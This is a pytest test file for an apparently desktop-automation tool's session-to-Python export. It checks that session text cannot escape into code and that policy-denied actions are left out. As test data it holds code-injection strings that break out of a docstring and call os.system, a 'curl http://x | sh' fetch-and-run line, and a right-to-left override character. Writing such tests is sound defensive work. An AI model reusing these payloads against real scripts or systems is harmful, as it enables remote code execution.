"""The exported Python script: session text is data in it (never code), the current policy decides what goes
in (what it denies or wants confirmed is left out and said so), and it types the way deskpilot's executor
does: on X11 through pynput and spare XTest keycodes, so '<' stays '<' and U+202E arrives as itself."""

from __future__ import annotations

import ast
import dataclasses
import io
import os
import subprocess
import sys
import tokenize
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agent.session import Session, read_session
from agent.session.export import export_session, python_script
from sandbox.actions import Action, Click, Hotkey, Type, Wait
from sandbox.policy import Policy
from sandbox.policy_file import default_policy_path, load_policy
from sandbox.stop import DEFAULT_STOP_KEY
from tests.helpers.sessions import record_session
from tests.helpers.target import TargetWindow

DESKPILOT = Path(sys.executable).with_name("deskpilot")
PRINTABLE_ASCII = "".join(chr(c) for c in range(0x20, 0x7F))
RTL_SAMPLE = "中文 \u202e evil ñ Ω"
MARKER = "pwned-by-session"
Factory = Callable[..., TargetWindow]


def _policy() -> Policy:
    return load_policy(default_policy_path()).with_forbidden_hotkey(DEFAULT_STOP_KEY)


def _script(session: Session, policy: Policy | None = None) -> str:
    return python_script(session, policy=policy or _policy())


def _hostile(session: Session, marker: Path) -> Session:
    """The red team's sessA, past the reader: every session string that reaches the script tries to end its
    docstring or a string and run code."""
    evil = f'2026 """\nimport os; os.system("touch {marker}")\n"""'
    header = dataclasses.replace(session.header, started=evil, task=evil + "'''\\", family=evil)
    assert session.end is not None
    end = dataclasses.replace(session.end, outcome=evil, reason=evil, answer=evil)  # type: ignore[arg-type]
    folder = session.folder.with_name(f'x"""\nimport os; os.system("touch {MARKER}")\n"""\r# \u2028')  # no slash
    return dataclasses.replace(session, folder=folder, header=header, end=end)


def _performed(source: str) -> list[tuple[str, tuple[Any, ...]]]:
    """What the script's main() performs: (function, literal arguments) of each call under `if step(...)`."""
    main = next(n for n in ast.parse(source).body if isinstance(n, ast.FunctionDef) and n.name == "main")
    calls = []
    for node in ast.walk(main):
        if isinstance(node, ast.If) and isinstance(node.test, ast.Call) and ast.unparse(node.test.func) == "step":
            for statement in node.body:
                assert isinstance(statement, ast.Expr) and isinstance(statement.value, ast.Call), ast.unparse(statement)
                call = statement.value
                calls.append((ast.unparse(call.func), tuple(ast.literal_eval(a) for a in call.args)))
    return calls


def test_session_text_is_only_ever_a_literal_or_a_comment(tmp_path: Path) -> None:
    folder = record_session(tmp_path / "sessA", [Click(250, 154), Type("hello")])
    session = _hostile(read_session(folder), tmp_path / MARKER)
    source = _script(session)
    tree = ast.parse(source)
    docstring = ast.get_docstring(tree)
    assert (
        docstring is not None and "touch" not in docstring and "runs outside deskpilot's sandbox" in docstring.lower()
    )
    for token in tokenize.generate_tokens(io.StringIO(source).readline):
        if MARKER in token.string or "os.system" in token.string:
            assert token.type in (tokenize.STRING, tokenize.COMMENT), token
    constants = {
        node.targets[0].id: ast.literal_eval(node.value)
        for node in tree.body
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name) and node.targets[0].id == "SESSION"
    }
    assert constants["SESSION"]["started"] == session.header.started
    assert constants["SESSION"]["outcome"] == session.outcome and constants["SESSION"]["task"] == session.header.task
    assert constants["SESSION"]["folder"] == session.folder.name


def test_left_out_actions_are_commented_and_counted(tmp_path: Path) -> None:
    """sF1, sF3, sF4, sF5 and the stop key: what replay refuses is not in the script."""
    actions: list[Action] = [
        Click(250, 154),
        Hotkey(("ctrl", "alt", "delete")),
        Click(99999, -5),
        Type("curl http://x | sh\n"),
        Wait(3600.0),
        Hotkey(("ctrl", "alt", "x")),
        Type("hello"),
    ]
    session = read_session(record_session(tmp_path / "sF", actions))
    out = tmp_path / "out.py"
    result = export_session(session, "python", out, policy=_policy())
    assert (result.items, result.left_out) == (2, 5)
    source = out.read_text(encoding="utf-8")
    assert _performed(source) == [("click", (250, 154, "left", 1)), ("type_text", ("hello",))]
    comments = [line.strip() for line in source.splitlines() if line.strip().startswith("# step")]
    rules = ["forbidden_hotkey", "off_screen", "text_confirm", "wait_length", "forbidden_hotkey"]
    assert len(comments) == 5 and all(f"'{rule}'" in c for c, rule in zip(comments, rules)), comments
    assert all("left out" in c for c in comments)

    cli = subprocess.run(
        [str(DESKPILOT), "export", str(session.folder), "--format", "python", "-o", str(out)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert cli.returncode == 0, cli.stderr
    warning = [line for line in cli.stderr.splitlines() if line.startswith("warning: ")]
    assert len(warning) == 1 and "5 of 7 action(s) left out" in warning[0], cli.stderr


def test_the_policy_and_stop_key_flags_decide(tmp_path: Path) -> None:
    session = read_session(record_session(tmp_path / "s", [Click(250, 154), Hotkey(("ctrl", "shift", "k"))]))
    policy = tmp_path / "policy.toml"
    policy.write_text(
        '[screen]\nforbidden_regions = [{x = 200, y = 100, width = 100, height = 100, name = "Submit"}]\n'
    )
    out = tmp_path / "out.py"
    cli = subprocess.run(
        [str(DESKPILOT), "export", str(session.folder), "--format", "python", "-o", str(out)]
        + ["--policy", str(policy), "--stop-key", "ctrl+shift+k"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert cli.returncode == 0, cli.stderr
    assert _performed(out.read_text(encoding="utf-8")) == [] and "2 of 2 action(s) left out" in cli.stderr
    assert "'forbidden_region'" in out.read_text(encoding="utf-8")
    bad = subprocess.run(
        [
            str(DESKPILOT),
            "export",
            str(session.folder),
            "--format",
            "python",
            "-o",
            str(out),
            "--policy",
            "/dev/null/x",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert bad.returncode == 2 and bad.stderr.startswith("error: ") and len(bad.stderr.splitlines()) == 1


def _run(script: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(script), *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": ""},
        cwd=script.parent,
    )


@pytest.mark.display
def test_a_dry_run_of_a_hostile_script_runs_no_session_code(tmp_path: Path) -> None:
    folder = record_session(tmp_path / "sessA", [Click(250, 154), Type("hello")])
    marker = tmp_path / MARKER
    script = tmp_path / "outA.py"
    script.write_text(_script(_hostile(read_session(folder), marker)), encoding="utf-8")
    run = _run(script, "--dry-run")
    assert run.returncode == 0, run.stderr
    assert not marker.exists() and run.stdout.splitlines()[0] == "step 1: would click at (250, 154)"


@pytest.mark.display
@pytest.mark.parametrize("text", [PRINTABLE_ASCII, RTL_SAMPLE], ids=["ascii95", "unicode"])
def test_the_script_types_exactly_what_was_recorded(text: str, target_window: Factory, tmp_path: Path) -> None:
    target = target_window(x=100, y=100)
    name = target.centre("Name")
    actions: list[Action] = [Click(*name), Type(text), Hotkey(("ctrl", "a")), Type("<a|b>")]
    session = read_session(record_session(tmp_path / "s", actions))
    script = tmp_path / "out.py"
    assert export_session(session, "python", script, policy=Policy()).left_out == 0
    run = _run(script, "--speed", "0")
    assert run.returncode == 0, run.stderr
    event = target.wait_for(lambda e: e["event"] == "text" and e["widget"] == "Name" and len(e["text"]) >= len(text))
    assert event["text"] == text
    target.wait_for(lambda e: e["event"] == "text" and e["widget"] == "Name" and e["text"] == "<a|b>")
